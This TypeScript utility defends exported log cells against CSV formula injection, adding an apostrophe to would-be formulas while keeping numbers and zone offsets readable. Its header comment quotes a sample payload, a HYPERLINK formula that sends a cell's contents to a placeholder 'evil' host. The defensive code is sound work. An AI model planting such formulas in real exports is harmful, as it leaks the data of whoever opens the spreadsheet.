// CSV injection ("formula injection", https://owasp.org/www-community/attacks/CSV_Injection): a spreadsheet
// runs a cell that starts with = + - @ (and, after trimming, TAB or CR) as a formula, so log text like
// `=HYPERLINK("http://evil/?"&A1)` would run on the analyst's machine. OWASP: prefix such cells with an
// apostrophe, which spreadsheets show as text. Values that are data, not formulas, stay readable: plain
// numbers (-5, +3.25, 1e-3), zone offsets (+02:00, -0530) and the lone "-" logs use for "none".
const FORMULA_START = /^[=+\-@\t\r]/;
const READABLE = /^(?:[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|[+-]\d\d:?\d\d|-)$/;

/** The cell as a spreadsheet should show it: a would-be formula gets a leading apostrophe. */
export function neutralise(value: string): string {
  return FORMULA_START.test(value) && !READABLE.test(value) ? `'${value}` : value;
}

/** True when a spreadsheet would read the cell as a formula (what neutralise prevents; tests check exports with it). */
export function isLiveFormula(cell: string): boolean {
  return FORMULA_START.test(cell) && !READABLE.test(cell);
}
